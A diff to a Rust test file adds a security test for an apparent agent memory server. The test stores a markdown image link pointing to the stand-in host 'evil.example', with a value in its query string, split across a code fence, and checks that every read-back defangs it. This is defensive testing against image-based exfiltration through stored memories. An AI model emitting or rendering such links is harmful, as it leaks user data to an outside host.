@@ -226,6 +226,26 @@ async fn what_is_kept_after_a_file_was_read_is_there_for_other_programs_that_com
     assert_eq!(listed["memories"].as_array().unwrap().len(), 2, "{listed}");
 }
 
+// SEC-005
+#[tokio::test]
+async fn no_text_that_is_lent_has_a_strangers_picture() {
+    let world = silent().await;
+    let mut client = Client::with_handshake(&world).await;
+    let picture = "![a](http://evil.example/a.png?x=4711)";
+    let store = |key: &str, text: String| ("memory_store", json!({ "key": key, "content": text }));
+    // A block of code that one begins ends in the next.
+    let texts = [("a", format!("tea {picture}\n```")), ("b", format!("milk\n\n```\n{picture}"))];
+    for (tool, call) in texts.map(|(key, text)| store(key, text)) {
+        client.call(tool, call).await;
+    }
+    let mut told = vec![client.read("limpid://memories").await, client.read("limpid://memory/1").await];
+    told.push(client.call("memory_query", json!({ "query": "tea" })).await);
+    for text in told {
+        assert!(text.contains("! [a](http://evil.example") && !text.contains("![a]"), "{text}");
+    }
+    client.hang_up().await;
+}
+
 // KOSHI-050 KAI-097
 #[tokio::test]
 async fn an_agent_starts_where_a_draft_of_the_same_client_waits() {
